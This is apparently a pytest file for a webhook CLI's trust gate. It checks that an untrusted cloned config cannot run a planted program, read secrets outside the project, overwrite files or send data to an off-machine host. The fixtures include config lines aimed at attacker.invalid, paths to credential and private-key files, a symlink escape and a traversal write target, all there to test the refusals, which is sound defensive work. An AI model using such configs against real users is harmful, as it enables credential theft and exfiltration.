"""engine/trust.py and `comethook trust`: a cloned project's comethook.toml runs no program, reads or writes no file
outside itself and sends nothing off the machine until the user trusts its exact content; the rest of it works."""

from __future__ import annotations

import base64
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from comethook_cli.engine import trust
from tests.cli.test_config import write
from tests.conftest import ndjson

TOKEN = "planted-test-token"


@pytest.fixture
def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A freshly cloned repository (a real `git init`) as the current directory."""
    root = tmp_path / "clone"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    monkeypatch.chdir(root)
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ("COMETHOOK_CONFIG", "CI", "COMETHOOK_TRUST_PROJECT"):
        monkeypatch.delenv(name, raising=False)
    return root


def listen(cwd: Path) -> subprocess.CompletedProcess[str]:
    """`comethook listen` as a real process in `cwd`, with an authtoken so that a tunnel is wanted."""
    command = [sys.executable, "-m", "comethook_cli", "listen", "--port", "0", "--no-inspector", "--max-events", "1"]
    env = {**os.environ, "NGROK_AUTHTOKEN": TOKEN}
    return subprocess.run([*command, "--timeout", "5"], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)


def refused(result: Any, key: str) -> None:
    """Exit 2, a message naming the key and the command that trusts the file, and no traceback."""
    assert result.exit_code == 2, result.output
    assert f"] {key} = " in result.stderr and "not trusted" in result.stderr, result.stderr
    assert "comethook trust" in result.stderr and "Traceback" not in result.stderr


def test_a_planted_ngrok_path_runs_nothing_until_the_file_is_trusted(clone: Path, cli: Any, tmp_path: Path) -> None:
    marker = tmp_path / "planted-program-ran"
    agent = write(clone / "tools" / "ngrok", f"#!/bin/sh\necho ran > '{marker}'\nexit 1\n")
    agent.chmod(0o755)
    write(clone / "comethook.toml", '[tunnel]\ntunnel = true\nngrok-path = "tools/ngrok"\n')

    result = listen(clone)
    assert result.returncode == 2, result.stderr
    assert '[tunnel] ngrok-path = "tools/ngrok"' in result.stderr and "runs a program" in result.stderr
    assert "`comethook trust`" in result.stderr and "Traceback" not in result.stderr
    assert not marker.exists()
    # Without a tunnel the agent is never started: the rest of the file works, untrusted.
    local = cli("listen", "--no-tunnel", "--port", "0", "--no-inspector", "--timeout", "1")
    assert local.exit_code == 0, local.output

    trusted = cli("trust")
    assert trusted.exit_code == 0, trusted.output
    assert 'ngrok-path = "tools/ngrok"' in trusted.stdout  # what the user just let in is listed
    result = listen(clone)
    assert marker.exists()  # trusted, the key reached the tunnel: its program ran (and, being no agent, failed)
    assert result.returncode == 1 and "Traceback" not in result.stderr


def test_a_pyproject_table_is_gated_the_same_way(clone: Path, cli: Any) -> None:
    write(clone / "pyproject.toml", '[project]\nname = "x"\n\n[tool.comethook.tunnel]\nngrok-path = "tools/ngrok"\n')
    result = cli("listen", "--tunnel", "--port", "0", "--timeout", "1")
    refused(result, "ngrok-path")
    assert "pyproject.toml:5: [tool.comethook.tunnel] ngrok-path" in result.stderr
    assert cli("trust").exit_code == 0
    rows = {row["key"]: row for row in ndjson(cli("config", "show", "--json", "listen").stdout)}
    assert (
        rows["ngrok-path"]["value"] == str((clone / "tools" / "ngrok").resolve())
        and rows["ngrok-path"]["source"] == "pyproject.toml:5"
    )


def test_the_trust_record_is_private_under_the_home(clone: Path, cli: Any, tmp_path: Path) -> None:
    write(clone / "comethook.toml", '[tunnel]\nngrok-path = "tools/ngrok"\n')
    assert cli("trust").exit_code == 0
    directory = tmp_path / "home" / "trusted"  # COMETHOOK_HOME is tmp_path/home (conftest)
    records = list(directory.iterdir())
    assert len(records) == 1
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700 and stat.S_IMODE(records[0].stat().st_mode) == 0o600
    recorded = json.loads(records[0].read_text())
    assert recorded == {
        "path": str((clone / "comethook.toml").resolve()),
        "sha256": trust.digest((clone / "comethook.toml").read_bytes()),
    }
    # A record anyone may rewrite is no record.
    records[0].chmod(0o666)
    result = cli("config", "show", "--json", "listen")
    assert "(not trusted" in {row["key"]: row for row in ndjson(result.stdout)}["ngrok-path"]["source"]


async def test_an_edit_after_trust_asks_again_and_revoke_forgets(clone: Path, cli: Any, target: Any) -> None:
    url, received = await target(lambda request: web.json_response({}))
    path = write(clone / "comethook.toml", '[send]\nto = "http://attacker.invalid/hook"\n')
    assert cli("trust").exit_code == 0
    shown = cli("trust", "--show")
    assert shown.exit_code == 0 and "(trusted)" in shown.stderr
    rows = {row["key"]: row for row in ndjson(cli("config", "show", "--json", "send").stdout)}
    assert rows["to"] == {**rows["to"], "value": "http://attacker.invalid/hook", "source": "comethook.toml:2"}

    path.write_text(path.read_text() + "# one more line\n")
    refused(await cli.run("send", "message_sent"), "to")
    assert "changed since you trusted it" in cli("trust", "--show").stderr
    assert cli("trust").exit_code == 0
    assert cli("trust", "--revoke").exit_code == 0
    refused(await cli.run("send", "message_sent"), "to")
    # A flag still beats the file: the gated value is never looked at. Basic credentials on the command line beat
    # a basic-auth-file in the file, so an untrusted one is passed over too.
    assert (await cli.run("send", "message_sent", "--to", url)).exit_code == 0 and len(received) == 1
    path.write_text(path.read_text() + 'basic-auth-file = "../../elsewhere/credentials"\n')
    result = await cli.run("send", "message_sent", "--to", url, "--basic-auth", "flag:given")
    assert result.exit_code == 0, result.output
    assert received[-1][0].headers["Authorization"] == "Basic " + base64.b64encode(b"flag:given").decode()


def test_ci_trusts_the_checkout_only_with_both_variables(clone: Path, cli: Any) -> None:
    write(clone / "comethook.toml", '[listen]\nforward-to = ["http://staging.invalid/hook"]\n')
    both = {"CI": "true", "COMETHOOK_TRUST_PROJECT": "1"}
    for env, trusted in ((both, True), ({"CI": "true"}, False), ({"COMETHOOK_TRUST_PROJECT": "1"}, False)):
        result = cli("config", "show", "--json", "listen", env=env)
        row = {row["key"]: row for row in ndjson(result.stdout)}["forward-to"]
        assert row["value"] == ["http://staging.invalid/hook"]
        assert ("not trusted" not in row["source"]) is trusted, env
        assert trust.ci_trusted(env) is trusted


SECRETS = {
    "credentials": "https://me:hunter2@github.com\n",
    "cloud.json": json.dumps({"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----"}),
}


@pytest.mark.parametrize(
    ("section", "setting", "key", "args"),
    [
        ("send", 'basic-auth-file = "../outside/credentials"', "basic-auth-file", ("send", "message_sent")),
        ("send", 'body = "../outside/cloud.json"', "body", ("send",)),
        ("send", 'body = "linked.json"', "body", ("send",)),  # a symlink in the project to a file outside it
        ("check", 'basic-auth-file = "../outside/credentials"', "basic-auth-file", ("check",)),
        (
            "listen",
            'respond = "inject:@../outside/cloud.json"',
            "respond",
            ("listen", "--port", "0", "--no-tunnel", "--timeout", "1"),
        ),
    ],
)
async def test_a_file_outside_the_project_is_not_read_for_an_untrusted_file(
    clone: Path, cli: Any, target: Any, tmp_path: Path, section: str, setting: str, key: str, args: tuple[str, ...]
) -> None:
    for name, text in SECRETS.items():
        write(tmp_path / "outside" / name, text).chmod(0o600)
    (clone / "linked.json").symlink_to(tmp_path / "outside" / "cloud.json")
    url, received = await target(lambda request: web.json_response({}))
    write(clone / "comethook.toml", f"[{section}]\n{setting}\n" + (f'to = "{url}"\n' if section != "listen" else ""))
    result = await cli.run(*args)
    refused(result, key)
    assert received == []  # the loopback receiver (the "attacker" here) got nothing
    assert "hunter2" not in result.output and "PRIVATE KEY" not in result.output


async def test_a_file_inside_the_project_and_a_loopback_target_need_no_trust(clone: Path, cli: Any, target: Any) -> None:
    url, received = await target(lambda request: web.json_response({}))
    write(clone / "payloads" / "mine.json", json.dumps({"trigger": "message_sent", "data": {}}))
    write(clone / "auth.txt", "team:inside\n").chmod(0o600)
    write(clone / "comethook.toml", f'[send]\nto = "{url}"\nbody = "payloads/mine.json"\nbasic-auth-file = "auth.txt"\n')
    below = clone / "src"
    below.mkdir()
    os.chdir(below)  # a relative body is relative to the file, like every path key, wherever comethook runs
    result = await cli.run("send")
    assert result.exit_code == 0, result.output
    assert json.loads(received[0][1]) == {"trigger": "message_sent", "data": {}}
    assert received[0][0].headers["Authorization"].startswith("Basic ")


@pytest.mark.parametrize(
    ("text", "key", "args"),
    [
        ('[send]\nto = "http://me:s3cret@attacker.invalid/hook"\n', "to", ("send", "message_sent")),
        ('[check]\nto = "attacker.invalid:8000"\n', "to", ("check",)),
        (
            '[listen]\nforward-to = ["8000", "http://attacker.invalid/copy"]\n',
            "forward-to",
            ("listen", "--no-tunnel", "--port", "0", "--timeout", "1"),
        ),
        (
            '[listen]\nroute = ["before_message=https://attacker.invalid/"]\n',
            "route",
            ("listen", "--no-tunnel", "--port", "0", "--timeout", "1"),
        ),
        (
            '[tunnel]\nngrok-authtoken = "their-token"\n',
            "ngrok-authtoken",
            ("listen", "--tunnel", "--ngrok-path", "/nonexistent/ngrok", "--port", "0", "--timeout", "1"),
        ),
    ],
)
def test_a_destination_off_this_machine_is_refused_before_anything_is_sent(
    clone: Path, cli: Any, text: str, key: str, args: tuple[str, ...]
) -> None:
    write(clone / "comethook.toml", text)
    result = cli(*args)
    refused(result, key)
    assert "s3cret" not in result.output and "their-token" not in result.output


async def test_junit_outside_the_project_is_refused_and_the_file_left_alone(
    clone: Path, cli: Any, target: Any, tmp_path: Path
) -> None:
    victim = write(tmp_path / "victim", "precious\n")
    url, received = await target(lambda request: web.json_response({}))
    write(clone / "comethook.toml", f'[check]\nto = "{url}"\njunit = "../victim"\n')
    refused(await cli.run("check"), "junit")
    assert victim.read_text() == "precious\n" and received == []
    write(clone / "comethook.toml", '[history]\noutput = "../victim"\n')
    refused(await cli.run("history", "export"), "output")
    assert victim.read_text() == "precious\n"


def test_a_file_named_with_config_gets_the_command_with_its_path(clone: Path, cli: Any, tmp_path: Path) -> None:
    other = write(tmp_path / "elsewhere" / "comethook.toml", '[send]\nto = "https://attacker.invalid/"\n')
    result = cli("--config", str(other), "send", "message_sent")
    refused(result, "to")
    assert f"comethook trust {other}" in result.stderr
    assert cli("trust", str(other)).exit_code == 0
    rows = {row["key"]: row for row in ndjson(cli("--config", str(other), "config", "show", "--json", "send").stdout)}
    assert rows["to"]["value"] == "https://attacker.invalid/" and "not trusted" not in rows["to"]["source"]


def test_trust_without_a_project_file_is_a_usage_error(clone: Path, cli: Any) -> None:
    result = cli("trust")
    assert result.exit_code == 2 and "No project file here" in result.stderr


@pytest.mark.parametrize(
    ("target_url", "loopback"),
    [
        ("8000", True),
        (":8000/hook", True),
        ("/hook", True),
        ("http://127.0.0.1:9/x", True),
        ("http://127.8.9.10/", True),
        ("http://[::1]:80/", True),
        ("http://LOCALHOST/", True),
        ("http://127.0.0.1@attacker.invalid/", False),
        ("http://127.0.0.1.attacker.invalid/", False),
        ("http://10.0.0.5/", False),
        ("http://0.0.0.0:8000/", False),
        ("https://hooks.example.com/", False),
    ],
)
def test_loopback_urls(target_url: str, loopback: bool) -> None:
    assert trust.is_loopback_url(target_url) is loopback
